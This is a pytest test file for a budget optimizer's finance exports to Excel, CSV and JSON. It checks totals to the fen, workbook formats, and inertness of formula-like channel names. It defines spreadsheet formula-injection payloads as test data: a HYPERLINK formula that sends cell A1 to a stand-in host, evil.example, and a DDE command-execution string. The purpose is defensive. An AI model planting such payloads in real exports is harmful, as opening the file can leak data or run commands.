"""Finance exports: every total equals the sum of its rows to the fen in Excel, CSV and JSON; the workbook reads
back with its sheets and formats; a channel named like a formula stays inert text."""

from __future__ import annotations

import csv
import json
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest

from optimizer import Budget, Planner, default_scenario
from optimizer.campaign import CampaignPlanner, CampaignScenario, DailyRules, Horizon, template
from roimix.export import SHEETS, Context, campaign_tables, plan_tables, write_finance
from roimix.export.workbook import sheet_title

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
OTHERS = {"wxt": "+cmd|' /C calc'!A0", "qianchuan": "-2+3", "wechat_group": "@SUM(A1:A9)"}


@pytest.fixture(scope="module")
def evil_curves(truth_curves) -> pd.DataFrame:
    frame = truth_curves.copy()
    frame["channel"] = frame["channel"].replace({"ztc": EVIL} | OTHERS)
    return frame


@pytest.fixture(scope="module")
def campaign_plan(evil_curves):
    planner = CampaignPlanner(evil_curves, Horizon("2026-06-01", "2026-06-21"), template("618", 2026))
    budget = 1_234_567.891  # not a whole number of fen: the report must still add up
    setup = CampaignScenario(Budget(budget, reserve_share=0.0731), daily=DailyRules(per_phase=True))
    plan, flat = planner.solve(setup), planner.solve(setup, flat=True)
    assert plan.solved and flat.solved
    return plan, flat


def context(lang: str) -> Context:
    return Context("618 test", "618 2026", "2026-11-22T10:00:00+00:00", "roimix test",
                   (("curves", "truth_curves.csv (sha256 0123456789ab)"),),
                   (("phase peak", "2026-06-16 – 2026-06-18, response × 1.50", "template default"),),
                   {EVIL: EVIL, "douyin_kol": "抖音达人直播"}, lang)


@pytest.fixture(scope="module", params=["en", "zh"])
def written(request, campaign_plan, tmp_path_factory):
    plan, flat = campaign_plan
    tables = campaign_tables(plan, context(request.param), flat=flat)
    folder = tmp_path_factory.mktemp(f"finance_{request.param}")
    paths = {ext: write_finance(tables, folder / f"plan.{ext}") for ext in ("xlsx", "csv", "json")}
    return tables, paths


def fen(value) -> int:
    return int(Decimal(str(value)).scaleb(2).to_integral_value())


def sheet_rows(ws) -> list[list]:
    return [[c.value for c in row] for row in ws.iter_rows(min_row=2)]


def test_workbook_totals_equal_the_sum_of_their_rows_to_the_fen(written):
    tables, paths = written
    book = openpyxl.load_workbook(paths["xlsx"])
    totals = {}
    for name in ("plan", "daily"):
        ws = book[sheet_title(name, tables.lang)]
        head = [c.value for c in ws[1]]
        rows = sheet_rows(ws)
        body, total = rows[:-1], rows[-1]
        assert total[0] in ("Total", "合计")
        for col in (tables.plan if name == "plan" else tables.daily).columns.get_indexer(["spend", "expected_gmv"]):
            assert sum(fen(r[col]) for r in body) == fen(total[col]), (name, head[col])
        totals[name] = [fen(total[c]) for c in (tables.plan if name == "plan" else tables.daily).columns
                        .get_indexer(["spend", "expected_gmv"])]
    assert totals["plan"] == totals["daily"]
    summary = dict(zip(tables.summary["key"], (r[1] for r in sheet_rows(book[sheet_title("summary", tables.lang)]))))
    assert [fen(summary["spend"]), fen(summary["expected_gmv"])] == totals["plan"]
    assert fen(summary["budget"]) == fen(1_234_567.89)  # the budget set, to the fen
    assert abs(fen(summary["reserve"]) - 1_234_567.891 * 0.0731 * 100) <= 1.5  # the reserve share set, not B − spend
    # the plan spends the budget less the reserve, to the fen
    assert fen(summary["spend"]) == fen(round(1_234_567.891 * (1 - 0.0731), 2))


def test_csv_and_json_totals_equal_the_sum_of_their_rows(written):
    tables, paths = written
    raw = paths["csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel opens it as UTF-8
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    body, total = rows[1:-1], rows[-1]
    for col in (tables.daily.columns.get_loc("spend"), tables.daily.columns.get_loc("expected_gmv")):
        assert sum(fen(r[col]) for r in body) == fen(total[col])
    doc = json.loads(paths["json"].read_text(encoding="utf-8"))
    for key in ("spend", "expected_gmv"):
        assert sum(fen(r[key]) for r in doc["daily"]) == fen(doc["totals"][key])
        assert sum(fen(r[key]) for r in doc["plan"]) == fen(doc["totals"][key])
    assert fen(doc["totals"]["budget"]) == fen(1_234_567.89)
    assert abs(fen(doc["totals"]["reserve"]) - 1_234_567.891 * 0.0731 * 100) <= 1.5
    assert fen(doc["totals"]["spend"]) == fen(round(1_234_567.891 * (1 - 0.0731), 2))
    assert doc["summary"]["status"] and doc["rules"][0]["shadow_price"] is not None


def test_workbook_reads_back_with_its_sheets_formats_and_frozen_headers(written):
    tables, paths = written
    book = openpyxl.load_workbook(paths["xlsx"])
    assert book.sheetnames == [sheet_title(n, tables.lang) for n in SHEETS]
    for ws in book:
        assert ws.freeze_panes == "A2", ws.title
        assert all(c.font.bold for c in ws[1] if c.value is not None), ws.title
        assert ws.auto_filter.ref is not None
    daily = book[sheet_title("daily", tables.lang)]
    head = [c.value for c in daily[1]]
    spend = head.index("Spend (yuan)" if tables.lang == "en" else "花费（元）")
    assert daily.cell(2, spend + 1).number_format == "#,##0.00" and daily.cell(2, spend + 1).data_type == "n"
    assert daily.cell(2, 1).is_date and daily.cell(2, 1).number_format == "yyyy-mm-dd"
    plan = book[sheet_title("plan", tables.lang)]
    roi = [c.value for c in plan[1]].index("Incremental ROAS" if tables.lang == "en" else "增量投产比")
    assert plan.cell(2, roi + 1).number_format == "0.00"
    assert plan.cell(2, roi + 2).number_format == "0.0%"  # spend share, the next column
    summary = {r[0].value: r[1] for r in book[sheet_title("summary", tables.lang)].iter_rows(min_row=2) if r[0].value}
    made = "Made at" if tables.lang == "en" else "生成时间"
    assert summary[made].value == "2026-11-22T10:00:00+00:00"
    assert any("sha256 0123456789ab" in str(r[1].value) for r in book[sheet_title("summary", tables.lang)].iter_rows(min_row=2))
    rules = pd.DataFrame(sheet_rows(book[sheet_title("rules", tables.lang)]), columns=[c.value for c in book[sheet_title("rules", tables.lang)][1]])
    binding = rules[rules.iloc[:, 5] == True]  # noqa: E712 - the Binding column
    assert len(binding) and binding.iloc[:, 6].map(lambda v: isinstance(v, float)).all()  # shadow prices in yuan
    assert binding.iloc[:, 9].str.len().gt(0).all()  # each binding rule explained in words
    assert [r[0].value for r in book[sheet_title("assumptions", tables.lang)].iter_rows(min_row=2)] == ["phase peak"]
    if tables.lang == "zh":
        assert "花费（元）" in head and "每日平均花费方案的 GMV（元）" in summary


def test_a_channel_named_like_a_formula_stays_inert_text(written):
    tables, paths = written
    book = openpyxl.load_workbook(paths["xlsx"])
    texts = []
    for ws in book:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.append(c.value)
    quoted = {c.value for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.quotePrefix}
    for name in [EVIL, *OTHERS.values()]:  # shown as typed, held as text by Excel's quote-prefix style
        assert name in quoted and "'" + name not in texts
    lines = paths["csv"].read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in lines and ",=HYPERLINK(" not in lines and '"=HYPERLINK(' not in lines
    for field in (f for row in csv.reader(lines.splitlines()) for f in row):
        assert not field.startswith(("=", "+", "@")) and not (field.startswith("-") and not _number(field))
    doc = json.loads(paths["json"].read_text(encoding="utf-8"))  # JSON is data, not a spreadsheet: kept as is
    assert EVIL in {r["channel"] for r in doc["plan"]}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_plan_workbook_without_days_adds_up_too(truth_curves, tmp_path):
    result = Planner(truth_curves).solve(default_scenario(9_876.543))
    tables = plan_tables(result, Context("daily budget", lang="en"), budget_cny=9_876.543)
    path = write_finance(tables, tmp_path / "plan.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["summary", "plan", "rules", "assumptions"]
    rows = sheet_rows(book["plan"])
    col = tables.plan.columns.get_loc("spend")
    assert sum(fen(r[col]) for r in rows[:-1]) == fen(rows[-1][col]) == fen(9_876.54)
